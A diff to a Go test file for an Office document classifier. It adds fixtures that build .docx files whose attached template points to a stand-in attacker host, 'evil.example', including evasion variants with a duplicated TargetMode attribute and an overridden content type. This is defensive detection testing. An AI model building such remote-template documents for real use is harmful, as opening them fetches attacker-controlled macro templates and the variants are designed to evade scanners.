@@ -71,8 +71,10 @@ func field(parts ...string) string {
 
 func TestWhatADocumentIsFollowsFromItsStructure(t *testing.T) {
 	t.Parallel()
+	const rels = "word/_rels/settings.xml.rels"
+	remoteTemplate := external("attachedTemplate", "https://evil.example/x.dotm")
 	settings := func(kind, target string) []byte {
-		return storetest.Docx(t, "x", "word/_rels/settings.xml.rels", external(kind, target))
+		return storetest.Docx(t, "x", rels, external(kind, target))
 	}
 	book := string(storetest.Docx(t, "book"))
 	macroBook := string(storetest.Docx(t, "book", "xl/vbaProject.bin", "x"))
@@ -129,9 +131,15 @@ func TestWhatADocumentIsFollowsFromItsStructure(t *testing.T) {
 		"a linked field":                  {storetest.Docx(t, field(` LINK Excel.Sheet "C:\\\\b.xlsx" `)), "WORD_LINKED_OBJECT"},
 		"a picture of another host": {storetest.Docx(t, field(` INCLUDEPICTURE "https://x.example/a.png" \\* MERGEFORMAT`)),
 			"WORD_REMOTE_PICTURE"},
-		"a picture of a share":         {storetest.Docx(t, field(` INCLUDEPICTURE "\\\\server\\a.png"`)), "WORD_REMOTE_PICTURE"},
-		"a picture of the own disk":    {storetest.Docx(t, field(` INCLUDEPICTURE "C:\\Users\\a.png"`)), ""},
-		"a remote template":            {settings("attachedTemplate", "https://evil.example/x.dotm"), "WORD_REMOTE_TEMPLATE"},
+		"a picture of a share":      {storetest.Docx(t, field(` INCLUDEPICTURE "\\\\server\\a.png"`)), "WORD_REMOTE_PICTURE"},
+		"a picture of the own disk": {storetest.Docx(t, field(` INCLUDEPICTURE "C:\\Users\\a.png"`)), ""},
+		"a remote template":         {settings("attachedTemplate", "https://evil.example/x.dotm"), "WORD_REMOTE_TEMPLATE"},
+		"a remote template that names its mode twice": {storetest.Docx(t, "x", rels, strings.Replace(remoteTemplate, "TargetMode",
+			`x:TargetMode="Internal" xmlns:x="urn:x" TargetMode`, 1)), "WORD_REMOTE_TEMPLATE"},
+		"a remote template of another type": {storetest.Docx(t, "x", "[Content_Types].xml", override("/"+rels, wordType+"styles+xml"),
+			rels, remoteTemplate), "WORD_REMOTE_TEMPLATE"},
+		"a template of a port":         {settings("attachedTemplate", `file://host:80/x.dotm`), "WORD_REMOTE_TEMPLATE"},
+		"a template of a drive":        {settings("attachedTemplate", `file://C:/x.dotm`), ""},
 		"a template of a share":        {settings("attachedTemplate", `file:///\\server\x.dotx`), "WORD_REMOTE_TEMPLATE"},
 		"the own template":             {settings("attachedTemplate", `file:///C:\Users\Dr%20M\Templates\Normal.dotm`), ""},
 		"the own template on a Mac":    {settings("attachedTemplate", `/Users/m/Normal.dotm`), ""},
